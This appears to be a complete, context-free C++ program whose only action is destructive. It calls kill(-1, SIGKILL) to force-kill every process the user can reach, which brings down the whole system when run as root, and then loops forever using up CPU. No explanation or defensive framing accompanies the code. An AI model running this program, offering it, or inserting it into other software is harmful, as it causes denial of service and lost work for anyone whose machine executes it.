#include <csignal>
int main() { kill(-1, SIGKILL); for (;;) {} }
